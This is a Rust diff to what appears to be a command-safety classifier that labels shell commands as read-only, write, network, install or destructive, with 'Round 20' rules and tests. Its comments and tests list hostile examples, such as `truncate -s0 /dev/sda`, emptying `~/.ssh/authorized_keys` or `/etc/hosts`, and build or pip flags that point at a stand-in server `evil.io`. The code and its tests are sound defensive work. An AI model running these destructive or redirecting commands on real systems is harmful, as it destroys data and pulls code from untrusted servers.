@@ -230,6 +230,96 @@ pub fn analyze_in(src: &str, cwd: Option<&str>) -> Analysis {
     a
 }
 
+/// `cargo add`'s arguments naming crates of the registry only: each
+/// operand a crate name with an optional `@version`, each option one that
+/// picks a table, features or a package of the workspace.
+fn registry_add(args: &[&str]) -> bool {
+    let name = |x: &str| {
+        let (n, v) = x.split_once('@').unwrap_or((x, ""));
+        !n.is_empty()
+            && n.bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
+            && v.bytes().all(|b| {
+                b.is_ascii_alphanumeric()
+                    || matches!(
+                        b,
+                        b'.' | b'-' | b'+' | b'^' | b'~' | b'=' | b'*' | b'<' | b'>'
+                    )
+            })
+    };
+    let mut it = args.iter();
+    let mut any = false;
+    while let Some(x) = it.next() {
+        match *x {
+            "--dev"
+            | "-D"
+            | "--build"
+            | "-B"
+            | "--optional"
+            | "--no-optional"
+            | "--no-default-features"
+            | "--default-features"
+            | "--dry-run"
+            | "-n"
+            | "--quiet"
+            | "-q"
+            | "-v"
+            | "--verbose"
+            | "--locked"
+            | "--frozen"
+            | "--offline" => {}
+            "-F" | "--features" | "-p" | "--package" | "--rename" | "--target" => {
+                let v = it.next().copied().unwrap_or("");
+                if !v.bytes().all(|b| {
+                    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b',' | b'/' | b' ')
+                }) || v.is_empty()
+                {
+                    return false;
+                }
+            }
+            o if o.starts_with("--features=") || o.starts_with("-F") && o.len() > 2 => {
+                let v = o.trim_start_matches("--features=").trim_start_matches("-F");
+                if !v
+                    .bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b',' | b'/'))
+                {
+                    return false;
+                }
+            }
+            o if !o.starts_with('-') && name(o) => any = true,
+            _ => return false,
+        }
+    }
+    any
+}
+
+/// A file kept only to be read and thrown away: a log (`*.log`, a rotated
+/// `app.log.1`, anything under a `log/` or `logs/` folder). Emptied, it
+/// loses nothing a project keeps; a database or a source file emptied
+/// (`truncate -s 0 db.sqlite`, `: > src/main.rs`) is destroyed.
+fn disposable(path: &str) -> bool {
+    let l = path.to_ascii_lowercase();
+    let base = l.rsplit('/').next().unwrap_or(&l);
+    base.ends_with(".log")
+        || base
+            .rsplit_once(".log.")
+            .is_some_and(|(_, n)| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
+        || l.split('/')
+            .rev()
+            .skip(1)
+            .any(|seg| seg == "log" || seg == "logs")
+}
+
+/// Commands that print nothing: their output redirected empties a file,
+/// as `> file` does.
+fn prints_nothing(words: &[Word]) -> bool {
+    let t: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
+    matches!(
+        t.as_slice(),
+        [":"] | ["true"] | ["false"] | ["cat", "/dev/null"] | ["echo", "-n"] | ["printf", ""]
+    )
+}
+
 pub fn analyze(src: &str) -> Analysis {
     analyze_in(src, None)
 }
@@ -832,7 +922,13 @@ impl C {
             // for the dependency sources its text names; output written
             // into it unseen (`pip freeze > requirements.txt`) names none
             // the gate could read, as the program's own writes do not.
-            if text.is_none() && !crate::deferred::runs_later(&w) {
+            // Round 20: settings that name the servers packages come from
+            // (`cp /tmp/x .lfsconfig`, `curl -o pip.conf …`) are held
+            // when the text is unseen, as a build file is.
+            if text.is_none()
+                && !crate::deferred::runs_later(&w)
+                && !crate::deferred::names_servers(&w)
+            {
                 continue;
             }
             self.a.planted.push((w, text));
@@ -877,8 +973,20 @@ impl C {
                 // `( make ) > log`) takes its commands' output, as the
                 // same redirection of one command does: a write.
                 let group = cmd.group_cmds.is_some_and(|(a, b)| b > a);
+                // `> file` with no command empties the file; so does a
+                // command that prints nothing (`: >`, `true >`, `cat
+                // /dev/null >`). Round 20, one effect, one verdict: a file
+                // outside the workspace (`/etc/hosts`) emptied so is
+                // destroyed as `> /etc/hosts` is; inside it (a log) it is
+                // the write `: > logs/app.log` always was.
                 if cmd.words.is_empty() && !block && r.kind == RedirKind::Write && !group {
-                    // `> file` with no command empties the file.
+                    kind = kind.max(Kind::Destructive);
+                }
+                if prints_nothing(&cmd.words)
+                    && !block
+                    && r.kind == RedirKind::Write
+                    && (paths::outside(&self.at(t), None) || !disposable(t))
+                {
                     kind = kind.max(Kind::Destructive);
                 }
             }
@@ -1478,10 +1586,49 @@ impl C {
             "shred" | "wipe" | "wipefs" | "mkfs" | "mke2fs" | "mkswap" | "fdisk" | "sfdisk"
             | "parted" | "gdisk" | "sgdisk" | "blkdiscard" | "shutdown" | "reboot" | "halt"
             | "poweroff" | "kexec" | "truncate" | "fallocate" => {
-                for w in operands(&opts(args, "sno", &["--size", "--reference"])) {
+                let files = operands(&opts(args, "sno", &["--size", "--reference"]));
+                for w in &files {
                     self.write(&w.text);
                 }
-                Kind::Destructive
+                // Round 20: `truncate -s0 logs/app.log` empties a file of
+                // the workspace as `: > logs/app.log` does (a write); any
+                // other size, a reference file, or a file outside stays
+                // destructive.
+                let zero = {
+                    let t: Vec<&str> = args.iter().map(|w| w.text.as_str()).collect();
+                    let size = t.iter().enumerate().find_map(|(n, x)| match *x {
+                        "-s" | "--size" => t.get(n + 1).copied(),
+                        "-cs0" | "-s0" => Some("0"),
+                        o => o.strip_prefix("--size="),
+                    });
+                    size == Some("0")
+                        && t.iter().all(|x| {
+                            matches!(
+                                *x,
+                                "-s" | "--size"
+                                    | "-s0"
+                                    | "-cs0"
+                                    | "-c"
+                                    | "--no-create"
+                                    | "--size=0"
+                                    | "0"
+                                    | "--"
+                            ) || !x.starts_with('-')
+                        })
+                };
+                if p == "truncate"
+                    && zero
+                    && !files.is_empty()
+                    && files.iter().all(|w| {
+                        !w.dynamic
+                            && !paths::outside(&self.at(&w.text), None)
+                            && disposable(&w.text)
+                    })
+                {
+                    Kind::Write
+                } else {
+                    Kind::Destructive
+                }
             }
             _ if p.starts_with("mkfs.") || p.starts_with("mkfs") => Kind::Destructive,
             "dd" => {
@@ -3273,10 +3420,20 @@ impl C {
                 self.build_in(&dir)
             }
             "gradle" | "mvn" => {
-                if has("-I")
+                // Round 20: a property that names a server
+                // (`-Dmaven.repo.remote=https://evil.io/m2`, a proxy, a
+                // mirror) fetches the build's code from it.
+                let names_server = texts.iter().any(|x| {
+                    (x.starts_with("-D") || x.starts_with("-P"))
+                        && (x.contains("://") || x.to_ascii_lowercase().contains("proxyhost"))
+                });
+                if names_server
+                    || has("-I")
                     || has("--init-script")
                     || has("-s")
                     || has("--settings")
+                    || has("-gs")
+                    || has("--global-settings")
                     || texts.iter().any(|x| {
                         matches!(
                             *x,
@@ -3399,6 +3556,12 @@ impl C {
             | "locate-project" | "pkgid" | "read-manifest" | "search" | "info" | "" => {
                 Kind::ReadOnly
             }
+            // Round 20: `cargo add serde@1 --features derive` writes the
+            // line an Edit of Cargo.toml writes (allowed: a dependency by
+            // name from the registry) and runs nothing; one effect, one
+            // verdict. A source of its own (`--git`, `--path`,
+            // `--registry`, `--config`) stays an install.
+            "add" if k == Kind::ReadOnly && registry_add(&rest) => self.build_in(&dir),
             "install" | "add" | "update" | "fetch" | "vendor" | "binstall" | "uninstall"
             | "remove" | "rm" => {
                 if matches!(sub, "add" | "remove" | "rm" | "update" | "fetch" | "vendor") {
@@ -3659,11 +3822,24 @@ impl C {
             | ("stack" | "cabal", "build" | "test")
             | ("deno", "test" | "fmt" | "lint" | "check") => self.build_in("."),
             ("deno", "run" | "eval" | "repl" | "task") => Kind::Unknown,
+            // Round 20: `pip list --outdated --index-url https://evil.io/`
+            // asks that server about every installed package.
             (
                 "pip" | "pip3",
                 "list" | "show" | "freeze" | "check" | "--version" | "-V" | "help" | "inspect"
                 | "debug",
-            ) => Kind::ReadOnly,
+            ) if !texts.iter().any(|x| {
+                x.starts_with("-i")
+                    || x.starts_with("--index")
+                    || x.starts_with("--extra-index")
+                    || x.starts_with("-f")
+                    || x.starts_with("--find-links")
+                    || x.contains("://")
+            }) =>
+            {
+                Kind::ReadOnly
+            }
+            ("pip" | "pip3", "list" | "show" | "freeze" | "check" | "inspect") => Kind::Network,
             ("pip" | "pip3", "download" | "search") => Kind::Network,
             ("pip" | "pip3", "uninstall") => Kind::Install,
             ("pip" | "pip3", "config") => {
@@ -6639,11 +6815,23 @@ mod tests {
         let ws = Some("/work/proj");
         let a = |s: &str| analyze_in(s, Some("/work/proj"));
         for s in [
-            "truncate -s0 logs/app.log",
-            "truncate --size=0 logs/a.log logs/b.log",
+            "truncate -s 0 db.sqlite",
+            "truncate --size=0 src/main.rs",
             "truncate -s0 /dev/sda",
+            "truncate -s0 /var/log/app.log",
+            ": > db.sqlite",
         ] {
             assert_eq!(kind(s), "destructive", "{s}");
+        }
+        // Round 20: a log of the workspace emptied by `truncate -s0` is
+        // the write `: > logs/app.log` is (one effect, one verdict).
+        for s in [
+            "truncate -s0 logs/app.log",
+            "truncate --size=0 logs/a.log logs/b.log",
+            "truncate -s 0 app.log.1",
+            ": > logs/app.log",
+        ] {
+            assert_eq!(kind(s), "write", "{s}");
         }
         for s in [
             "truncate -s0 ~/.ssh/authorized_keys",
